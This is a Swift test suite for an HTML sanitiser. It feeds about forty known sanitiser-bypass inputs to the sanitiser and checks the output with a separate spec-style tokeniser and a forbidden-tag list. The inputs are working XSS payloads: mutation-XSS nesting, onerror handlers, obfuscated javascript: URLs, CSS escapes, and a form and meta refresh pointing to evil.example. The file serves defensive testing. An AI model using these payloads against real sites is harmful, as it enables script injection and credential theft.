import Markup
import Testing

/// Known ways around sanitisers. The browser test loads the same kind of things without any policy; here each is looked at
/// with a tokeniser that is not the sanitiser's.
@Suite struct `Hostile HTML` {
    @Test(arguments: [
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
        "<title><p title=\"</title><img src=x onerror=alert(1)>\">",
        "<style><p title=\"</style><img src=x onerror=alert(1)>\">", "<!--><img src=x onerror=alert(1)>-->",
        "<!--[if mso]><img src=x onerror=alert(1)><![endif]-->", "<![CDATA[><img src=x onerror=alert(1)>]]>",
        "<?xml version=\"1.0\"?><img src=x onerror=alert(1)>",
        "<select><template><style><!--</style><a rel=\"--></style>\">",
        "<table><td><svg><desc><td><title><a id=\"</title><img src=x onerror=alert(1)>\">",
        "<img src=`x`onerror=alert(1)>", "<img/src/onerror=alert(1)>", "<img src=x\u{0C}onerror=alert(1)>",
        "<a href=\"java\tscript:alert(1)\">x</a>", "<a href=\"\u{1}javascript:alert(1)\">x</a>",
        "<a href=\"javascript&colon;alert(1)\">x</a>", "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
        "<a href=\"vbscript:x\">x</a><a href=\"data:text/html;base64,PHNjcmlwdD4=\">y</a>",
        "<area href=\"javascript:alert(1)\"><img usemap=\"#x\"><blockquote cite=\"javascript:alert(1)\">q</blockquote>",
        "<table background=\"javascript:alert(1)\"><td background=\"vbscript:x\">x</table>",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
        "<meta name=\"referrer\" content=\"unsafe-url\"><meta http-equiv=\"set-cookie\" content=\"a=b\">",
        "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\"><style>@import url(https://evil.example);</style>",
        "<style>@\\69mport 'x'; a{background:url(javascript:alert(1))}</style>",
        "<p style=\"background:u\\72l(javascript:alert(1));position:fixed;behavior:url(x)\">x</p>",
        "<form action=\"https://evil.example\"><input name=a type=password><button formaction=javascript:alert(1)>x</button></form>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe><embed src=x><object data=x></object><applet code=x>",
        "<video src=x onerror=alert(1)><audio src=x><source src=x></video>", "<base href=\"javascript:alert(1)//\">",
        "<img src=x {first_name|onerror=alert(1)}>", "<{first_name|script}>alert(1)</{first_name|script}>",
        "<a {#city}onclick=alert(1){/city} href=\"{city|javascript:}alert(1)\">x</a>",
        "<svg xmlns:xlink=\"x\"><a xlink:href=\"javascript:alert(1)\"><text>x</text></a><animate attributeName=href></svg>",
        "<div><b><i><p></b></i></div></p><img src=x onerror=alert(1)", "<p title=\"a\" title=\"b\" ONCLICK=alert(1)>x",
        "<isindex action=javascript:alert(1)><keygen autofocus onfocus=alert(1)>", "<image src=x onerror=alert(1)>",
    ]) func `leaves nothing that runs, loads a style, sends a form or leads to program code`(_ html: String) {
        let clean = sanitise(html: html).html
        for tag in Tags(clean).all {
            #expect(!Self.forbidden.contains(tag.name), "\(tag.name) in \(clean)")
            for (name, value) in tag.attributes {
                #expect(!name.hasPrefix("on") && name != "srcdoc" && !name.hasPrefix("form"), "\(name) in \(clean)")
                #expect(tag.name != "meta" || name != "http-equiv" || value.lowercased() != "refresh")
                let plain = value.lowercased().filter { !$0.isWhitespace && $0 > "\u{20}" }
                guard ["href", "src", "background", "cite", "xlink:href"].contains(name) else { continue }
                #expect(!plain.hasPrefix("javascript:") && !plain.hasPrefix("vbscript:"), "\(clean)")
                #expect(!plain.hasPrefix("data:") || plain.hasPrefix("data:image/"), "\(clean)")
            }
        }
        #expect(!clean.lowercased().contains("@import") && !clean.contains("javascript:alert(1));"))
        #expect(sanitise(html: clean).html == clean)
    }

    private static let forbidden: Set<String> = [
        "script", "iframe", "object", "embed", "applet", "form", "input", "button", "select", "textarea", "svg", "math",
        "base", "link", "template", "noscript", "video", "audio", "source", "xmp", "isindex", "keygen", "frame",
        "animate",
    ]
}

/// The tags of a text, found as a browser's tokeniser finds them (HTML §13.2.5).
private struct Tags {
    private(set) var all: [(name: String, attributes: [(String, String)])] = []

    init(_ html: String) {
        let text = Array(html.unicodeScalars)
        var index = 0
        func isSpace(_ scalar: Unicode.Scalar) -> Bool { " \t\n\r\u{0C}".unicodeScalars.contains(scalar) }
        func starts(_ word: String, at place: Int) -> Bool {
            let word = Array(word.unicodeScalars)
            return place + word.count <= text.count
                && zip(text[place...], word).allSatisfy { String($0).lowercased() == String($1) }
        }
        while index < text.count {
            guard text[index] == "<", index + 1 < text.count, text[index + 1].properties.isAlphabetic else {
                if starts("<!--", at: index) {
                    while index < text.count, !starts("-->", at: index) { index += 1 }
                }
                index += 1
                continue
            }
            index += 1
            var name = ""
            while index < text.count, !isSpace(text[index]), text[index] != "/", text[index] != ">" {
                name.unicodeScalars.append(text[index])
                index += 1
            }
            var attributes: [(String, String)] = []
            while index < text.count, text[index] != ">" {
                if isSpace(text[index]) || text[index] == "/" {
                    index += 1
                    continue
                }
                var (key, value) = ("", "")
                while index < text.count, !isSpace(text[index]), !"/>=".unicodeScalars.contains(text[index]) {
                    key.unicodeScalars.append(text[index])
                    index += 1
                }
                if index < text.count, text[index] == "=" {
                    index += 1
                    if index < text.count, text[index] == "\"" || text[index] == "'" {
                        let quote = text[index]
                        index += 1
                        while index < text.count, text[index] != quote {
                            value.unicodeScalars.append(text[index])
                            index += 1
                        }
                        index += 1
                    } else {
                        while index < text.count, !isSpace(text[index]), text[index] != ">" {
                            value.unicodeScalars.append(text[index])
                            index += 1
                        }
                    }
                } else if key.isEmpty {
                    index += 1
                }
                attributes.append((key.lowercased(), value))
            }
            all.append((name.lowercased(), attributes))
            // What stands in these is no markup.
            if ["style", "title"].contains(name.lowercased()) {
                while index < text.count, !starts("</\(name.lowercased())", at: index) { index += 1 }
            }
        }
    }
}
